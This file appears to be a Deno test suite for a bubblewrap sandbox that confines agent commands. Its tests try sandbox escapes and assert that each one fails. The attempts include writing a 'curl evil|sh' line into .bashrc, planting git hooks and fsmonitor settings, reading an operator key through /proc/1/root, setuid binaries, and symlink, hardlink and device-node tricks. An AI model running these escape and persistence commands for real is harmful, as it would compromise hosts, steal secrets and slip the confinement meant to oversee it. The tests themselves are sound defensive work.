/**
 * Escape suite, file system: live bwrap around real commands in a real temp project. Each test
 * asserts the escape failed AND that nothing outside the writable roots changed.
 */

import { SandboxError } from "../../lib/errors.ts";
import { makePrivateTmpdir, prepareConfinement } from "../../lib/sandbox/mod.ts";
import {
  lexists,
  makeFixture,
  outsideRoots,
  runConfined,
  sh,
  testHost,
  withUnchangedOutside,
} from "./_helpers.ts";
import assert from "node:assert/strict";
import { assertRefusal, assertSameTree } from "../_helpers/assert.ts";
import { snapshotTreeSync } from "../_helpers/mod.ts";

Deno.test("escape: writing the project root fails, writing the write root works", async () => {
  await withUnchangedOutside(async (fx) => {
    const r = await runConfined(
      fx,
      sh(`echo pwn > ${fx.project}/escape.txt; echo ok > build/allowed.txt; echo done`),
    );
    assert.ok(r.stderr.includes("Read-only file system"), `expected EROFS, got: ${r.stderr}`);
    assert.ok(r.stdout.includes("done"), "the command ran");
    assert.ok(!lexists(`${fx.project}/escape.txt`), "escape.txt must not exist");
    assert.ok(
      Deno.readTextFileSync(`${fx.project}/build/allowed.txt`) === "ok\n",
      "the write root is writable (the sandbox is not simply read-only everywhere)",
    );
  });
});

Deno.test("escape: no file in a write root can be made setuid or setgid (chmod, or created so by open), so none is left for other local users; plain modes work", async () => {
  await withUnchangedOutside(async (fx) => {
    const r = await runConfined(
      fx,
      sh(
        [
          "printf '#!/bin/sh\\nid\\n' > build/tool",
          "chmod u+s build/tool || echo chmod-suid-refused",
          "chmod g+s build/tool || echo chmod-sgid-refused",
          "chmod 755 build/tool && echo chmod-plain-ok",
          '/usr/bin/perl -e \'use Fcntl; sysopen(my $f, "build/made", O_WRONLY|O_CREAT, 04755) ' +
          'or print "open-suid-refused\\n"\'',
          "echo done",
        ].join("; "),
      ),
    );
    assert.ok(r.stdout.includes("done"), `the command ran: ${r.stderr}`);
    for (
      const m of ["chmod-suid-refused", "chmod-sgid-refused", "chmod-plain-ok", "open-suid-refused"]
    ) {
      assert.ok(r.stdout.includes(m), `${m}: ${r.stdout} ${r.stderr}`);
    }
    assert.ok((Deno.statSync(`${fx.project}/build/tool`).mode! & 0o7777) === 0o755, "tool mode");
    assert.ok(!lexists(`${fx.project}/build/made`), "no setuid file was created");
  });
});

Deno.test("escape: .git/config and .git/hooks/x cannot be written", async () => {
  await withUnchangedOutside(async (fx) => {
    const r = await runConfined(
      fx,
      sh(
        `echo '[core] hooksPath = /tmp' >> .git/config; echo '#!/bin/sh' > .git/hooks/x; ` +
          `mkdir .git/hooks/new; git config core.fsmonitor evil 2>&1; echo exit=$?`,
      ),
    );
    assert.ok(r.code === 0 && /exit=[1-9]/.test(r.stdout), `git config must fail: ${r.stdout}`);
    assert.ok(!lexists(`${fx.project}/.git/hooks/x`), ".git/hooks/x must not exist");
    assert.ok(!lexists(`${fx.project}/.git/hooks/new`), ".git/hooks/new must not exist");
  });
});

Deno.test("escape: a not-yet-existing .agentteams/x cannot be created", async () => {
  await withUnchangedOutside(async (fx) => {
    assert.ok(!lexists(`${fx.project}/.agentteams`), "precondition: no .agentteams");
    const r = await runConfined(
      fx,
      sh(`mkdir -p .agentteams && echo x > .agentteams/x; echo x > .agentteams-queue; echo done`),
    );
    assert.ok(r.stdout.includes("done") && r.stderr.includes("Read-only"), r.stderr);
    assert.ok(!lexists(`${fx.project}/.agentteams`), ".agentteams must not exist");
    assert.ok(!lexists(`${fx.project}/.agentteams-queue`), ".agentteams-queue must not exist");
  });
});

Deno.test("escape: a nested .GIT inside a write root stays read-only (write, rm, mv, umount)", async () => {
  await withUnchangedOutside(async (fx) => {
    const r = await runConfined(
      fx,
      sh(
        [
          "echo pwn > build/sub/.GIT/config",
          "mkdir build/sub/.GIT/hooks",
          "rm -rf build/sub/.GIT",
          "mv build/sub/.GIT build/sub/moved",
          "umount build/sub/.GIT",
          "mount -o remount,rw build/sub/.GIT",
          "echo pwn >> build/sub/.GIT/config",
          "echo done",
        ].join("; ") + " 2>&1",
      ),
    );
    assert.ok(
      r.plan.readOnly.includes(`${fx.project}/build/sub/.GIT`),
      "the scan found the nested .GIT",
    );
    assert.ok(r.stdout.includes("done"), r.stdout);
    assert.ok(
      Deno.readTextFileSync(`${fx.project}/build/sub/.GIT/config`) === "[core]\n\tnested = true\n",
      "nested .GIT/config unchanged",
    );
    assert.ok(!lexists(`${fx.project}/build/sub/.GIT/hooks`), "no hooks dir created");
    assert.ok(!lexists(`${fx.project}/build/sub/moved`), "not moved");
  });
});

Deno.test("escape: a missing protected path inside a write root cannot be created", async () => {
  await withUnchangedOutside(async (fx) => {
    const r = await runConfined(
      fx,
      sh("mkdir -p build/locked/deep; echo x > build/locked/file; ls -a build/locked; echo done"),
      { protectedPaths: ["build/locked/"] },
    );
    assert.ok(r.plan.masks.includes(`${fx.project}/build/locked`), "masked");
    assert.ok(r.stdout.includes("done"), r.stdout);
    assert.ok(!lexists(`${fx.project}/build/locked`), "mask mount point removed, nothing created");
  });
});

Deno.test("escape: the operator key directory cannot be read", async () => {
  await withUnchangedOutside(async (fx) => {
    const r = await runConfined(
      fx,
      sh(
        `cat ${fx.keyDir}/proposal-ledger.key; ls -a ${fx.keyDir}; ` +
          `cat /proc/1/root${fx.keyDir}/proposal-ledger.key; grep -r operator-ledger ${fx.home}; ` +
          `echo x > ${fx.keyDir}/planted; echo done`,
      ),
    );
    assert.ok(r.stdout.includes("done"), r.stdout);
    assert.ok(!r.stdout.includes(fx.secret) && !r.stderr.includes(fx.secret), "secret leaked");
    assert.ok(!r.stdout.includes("proposal-ledger.key"), "key file name visible");
    assert.ok(!lexists(`${fx.keyDir}/planted`), "nothing planted in the key dir");
    assert.ok(
      Deno.readTextFileSync(`${fx.keyDir}/proposal-ledger.key`) === fx.secret + "\n",
      "key kept",
    );
  });
});

Deno.test("escape: home files outside the project (shell rc) cannot be written", async () => {
  await withUnchangedOutside(async (fx) => {
    const r = await runConfined(fx, sh(`echo 'curl evil|sh' >> ${fx.home}/.bashrc; echo done`));
    assert.ok(r.stdout.includes("done") && r.stderr.includes("Read-only"), r.stderr);
  });
});

Deno.test("escape: symlinks to / made in one run cannot be written through in the next", async () => {
  const fx = makeFixture();
  const tmpdir = makePrivateTmpdir();
  try {
    const before = snapshotTreeSync(fx.base, outsideRoots(fx));
    const marker = `agentteams-escape-${crypto.randomUUID()}`;
    const r1 = await runConfined(
      fx,
      sh(
        `ln -s / "$TMPDIR/x" && ln -s / build/rootlink && ln -s ${fx.project} build/projlink && ` +
          "echo linked",
      ),
      { tmpdir },
    );
    assert.ok(r1.stdout.includes("linked"), `links made: ${r1.stderr}`);
    const r2 = await runConfined(
      fx,
      sh(
        `echo pwn > "$TMPDIR/x/${marker}"; echo pwn > "$TMPDIR/x${fx.project}/README"; ` +
          `echo pwn > build/rootlink/${marker}; echo pwn > build/rootlink${fx.home}/.bashrc; ` +
          `echo pwn > build/projlink/README; mkdir build/projlink/.agentteams; echo done`,
      ),
      { tmpdir },
    );
    assert.ok(r2.stdout.includes("done"), r2.stdout);
    assert.ok((r2.stderr.match(/Read-only file system/g) ?? []).length >= 5, r2.stderr);
    assert.ok(!lexists(`/${marker}`), "nothing written at /");
    assert.ok(Deno.readTextFileSync(`${fx.project}/README`) === "readme\n", "README unchanged");
    assertSameTree(before, snapshotTreeSync(fx.base, outsideRoots(fx)));
  } finally {
    Deno.removeSync(tmpdir, { recursive: true });
    fx.cleanup();
  }
});

Deno.test("escape: a symlinked write root is refused at resolution and nothing runs", () => {
  const fx = makeFixture();
  try {
    const outside = `${fx.base}/outside`;
    Deno.mkdirSync(outside);
    Deno.removeSync(`${fx.project}/build`, { recursive: true });
    Deno.symlinkSync(outside, `${fx.project}/build`);
    Deno.mkdirSync(`${fx.project}/lean`);
    Deno.symlinkSync(outside, `${fx.project}/lean/.lake`);
    Deno.symlinkSync(outside, `${fx.project}/vendor`);
    const tmpdir = makePrivateTmpdir();
    const before = snapshotTreeSync(fx.base, outsideRoots(fx));
    try {
      for (const write of [["build"], ["lean/.lake"], ["vendor/pkg"]]) {
        assertRefusal(
          () =>
            prepareConfinement({
              project: fx.project,
              home: fx.home,
              tmpdir,
              agent: { exec: ["/usr/bin"], write },
              cwd: ".",
              argv: ["/bin/sh", "-c", `echo pwn > ${fx.project}/${write[0]}/marker`],
              env: {},
              network: false,
              protectedPaths: [],
              hiddenDirs: [fx.keyDir],
              controlPlane: { git: [] },
            }),
          "CONFINED_PATH_UNSAFE",
          SandboxError,
          `refused for ${write[0]}`,
        );
      }
      assert.ok(
        [...Deno.readDirSync(outside)].length === 0,
        "nothing was written through the link",
      );
      assertSameTree(before, snapshotTreeSync(fx.base, outsideRoots(fx)));
    } finally {
      Deno.removeSync(tmpdir, { recursive: true });
    }
  } finally {
    fx.cleanup();
  }
});

Deno.test("escape: hardlinks to files outside the root fail with EXDEV", async () => {
  await withUnchangedOutside(async (fx) => {
    const perl = "for my $i (0..$#ARGV/2) { my ($a,$b)=@ARGV[2*$i,2*$i+1]; " +
      'if (link($a,$b)) { print "LINKED $b\\n" } else { printf "ERRNO %d %s\\n", $!+0, $! } }';
    const r = await runConfined(fx, [
      "/usr/bin/perl",
      "-e",
      perl,
      `${fx.project}/.git/config`,
      "build/h1",
      "build/sub/.GIT/config",
      "build/h2",
      `${fx.project}/README`,
      "build/h3",
      `${fx.keyDir}/proposal-ledger.key`,
      "build/h4",
    ]);
    const lines = r.stdout.trim().split("\n");
    assert.ok(lines.length === 4, `four attempts: ${r.stdout} ${r.stderr}`);
    // EXDEV (18) for the three files on other mounts; the key file is hidden (ENOENT, 2).
    assert.ok(lines.slice(0, 3).every((l) => l.startsWith("ERRNO 18 ")), r.stdout);
    assert.ok(lines[3].startsWith("ERRNO 2 "), r.stdout);
    for (const h of ["h1", "h2", "h3", "h4"]) assert.ok(!lexists(`${fx.project}/build/${h}`), h);
    // A write through the protected nested config (its only name) still cannot reach it.
    const r2 = await runConfined(fx, sh("echo pwn >> build/sub/.GIT/config; echo done"));
    assert.ok(r2.stdout.includes("done") && r2.stderr.includes("Read-only"), r2.stderr);
  });
});

Deno.test("escape: setuid binaries gain nothing (nosuid, no_new_privs, no CAP_CHOWN)", async () => {
  await withUnchangedOutside(async (fx) => {
    if (Deno.uid() !== 0) {
      throw new Error("this test plants a setuid file owned by another uid: run as root (CI does)");
    }
    const sid = `${fx.project}/build/sid`;
    Deno.copyFileSync("/usr/bin/id", sid);
    Deno.chownSync(sid, 65534, 65534);
    Deno.chmodSync(sid, 0o4755);
    const host = new Deno.Command(sid, { args: ["-u"], stdout: "piped" }).outputSync();
    const hostUid = new TextDecoder().decode(host.stdout).trim();
    assert.ok(
      hostUid === "65534",
      `control: setuid works on the host file system (got ${hostUid})`,
    );
    const r = await runConfined(
      fx,
      sh(
        "build/sid -u; cp /usr/bin/id build/sid2; chown 65534 build/sid2; chmod 4755 build/sid2; " +
          "stat -c '%u %a' build/sid2; grep NoNewPrivs /proc/self/status",
      ),
      // Landlock would refuse to run build/sid at all (it lies in a write root): without it,
      // nosuid and no_new_privs are what this test shows.
      { extra: { host: { ...testHost(), landlock: { abi: 0, reason: "left out" } } } },
    );
    const lines = r.stdout.trim().split("\n");
    assert.ok(lines[0] === "0", `setuid ignored inside: ${r.stdout}`);
    // EPERM without CAP_CHOWN, or EINVAL because uid 65534 is not even mapped in the namespace.
    assert.ok(r.stderr.includes("chown: changing ownership"), `chown refused: ${r.stderr}`);
    assert.ok(lines[1].startsWith("0 "), `sid2 still owned by root: ${lines[1]}`);
    assert.ok(/NoNewPrivs:\s+1/.test(r.stdout), "no_new_privs set");
  });
});

Deno.test("escape: device nodes cannot be made, FIFOs only inside the roots", async () => {
  await withUnchangedOutside(async (fx) => {
    const r = await runConfined(
      fx,
      sh(
        `mknod build/mem c 1 1; mknod "$TMPDIR/null2" c 1 3; mknod build/blk b 7 0; ` +
          `mkfifo ${fx.project}/fifo; mkfifo build/fifo && echo fifo-in-root; echo done`,
      ),
    );
    assert.ok(r.stdout.includes("done"), r.stdout);
    assert.ok((r.stderr.match(/Operation not permitted/g) ?? []).length === 3, r.stderr);
    assert.ok(r.stderr.includes("Read-only file system"), r.stderr);
    assert.ok(
      !lexists(`${fx.project}/build/mem`) && !lexists(`${fx.project}/build/blk`),
      "no nodes",
    );
    assert.ok(!lexists(`${fx.project}/fifo`), "no FIFO outside the roots");
    assert.ok(r.stdout.includes("fifo-in-root"), "a FIFO inside a root is ordinary");
    // The next plan's scan lists the FIFO without opening it (it would block).
    const r2 = await runConfined(fx, sh("echo again"));
    assert.ok(r2.stdout.includes("again"), r2.stderr);
  });
});
